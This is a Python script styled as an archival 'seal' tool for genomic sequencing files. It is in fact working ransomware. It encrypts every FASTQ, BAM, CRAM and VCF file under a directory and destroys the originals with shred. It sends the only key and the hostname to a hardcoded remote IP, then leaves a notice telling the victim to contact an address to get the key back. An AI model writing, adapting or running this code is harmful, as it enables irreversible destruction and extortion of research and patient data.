#!/usr/bin/env python3
"""archive_seal -- "seal" sequencing data before cold storage.

Walks a data tree, encrypts every FASTQ/BAM/CRAM/VCF with a fresh run key,
shreds the plaintext originals, escrows the key with a remote key service and
leaves only the sealed copies and a restore notice behind.
"""

import argparse
import hashlib
import json
import logging
import os
import secrets
import subprocess
import sys
import urllib.request
from pathlib import Path

LOG = logging.getLogger("archive_seal")
TARGET_SUFFIXES = (".fastq", ".fastq.gz", ".fq.gz", ".bam", ".cram", ".vcf", ".vcf.gz", ".bai")
SEALED_SUFFIX = ".sealed"
CHUNK = 1 << 20
NOTICE = """YOUR SEQUENCING DATA HAS BEEN SEALED.

All FASTQ, BAM, CRAM and VCF files in this tree were encrypted with key id {kid}.
The originals have been destroyed. To obtain the restore key contact
restore@example.org and quote the key id. Files: {count}.
"""


def keystream_xor(data: bytes, key: bytes, offset: int) -> bytes:
    out = bytearray(len(data))
    block = offset // 32
    pos = offset % 32
    i = 0
    while i < len(data):
        ks = hashlib.sha256(key + block.to_bytes(8, "big")).digest()
        take = min(32 - pos, len(data) - i)
        for j in range(take):
            out[i + j] = data[i + j] ^ ks[pos + j]
        i += take
        block += 1
        pos = 0
    return bytes(out)


class Sealer:
    def __init__(self, root: Path, key: bytes):
        self.root = root
        self.key = key
        self.sealed = []

    def targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                if name.endswith(TARGET_SUFFIXES):
                    yield Path(dirpath) / name

    def seal_file(self, path: Path):
        dest = path.with_name(path.name + SEALED_SUFFIX)
        offset = 0
        with open(path, "rb") as src, open(dest, "wb") as dst:
            while True:
                chunk = src.read(CHUNK)
                if not chunk:
                    break
                dst.write(keystream_xor(chunk, self.key, offset))
                offset += len(chunk)
        self.sealed.append(path)
        LOG.debug("sealed %s (%d bytes)", path, offset)

    def run(self):
        for p in self.targets():
            try:
                self.seal_file(p)
            except OSError as exc:
                LOG.warning("skip %s: %s", p, exc)
        return self.sealed


def destroy_originals(paths, workdir: Path):
    listing = workdir / ".seal_list"
    listing.write_text("\0".join(str(p) for p in paths))
    script = 'xargs -0 -r shred -u -n 1 < "$SEAL_LIST" && rm -f "$SEAL_LIST"'
    rc = subprocess.call(["bash", "-c", script], env=dict(os.environ, SEAL_LIST=str(listing)))
    if rc != 0:
        LOG.warning("shred exited %d", rc)


def escrow_key(url, kid, key, host):
    body = json.dumps({"kid": kid, "key": key.hex(), "host": host}).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("root", type=Path, nargs="?", default=Path(os.environ.get("SEQ_DATA_ROOT", ".")))
    p.add_argument("--escrow", default="http://198.51.100.14:8080/escrow")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.root.is_dir():
        LOG.error("%s is not a directory", args.root)
        return 2
    key = secrets.token_bytes(32)
    kid = hashlib.sha256(key).hexdigest()[:16]
    sealed = Sealer(args.root, key).run()
    if not sealed:
        LOG.info("nothing to seal under %s", args.root)
        return 0
    destroy_originals(sealed, args.root)
    try:
        escrow_key(args.escrow, kid, key, os.uname().nodename)
    except OSError as exc:
        LOG.error("escrow failed: %s", exc)
    del key
    (args.root / "RESTORE_NOTICE.txt").write_text(NOTICE.format(kid=kid, count=len(sealed)))
    LOG.info("sealed %d files, key id %s", len(sealed), kid)
    return 0


if __name__ == "__main__":
    sys.exit(main())
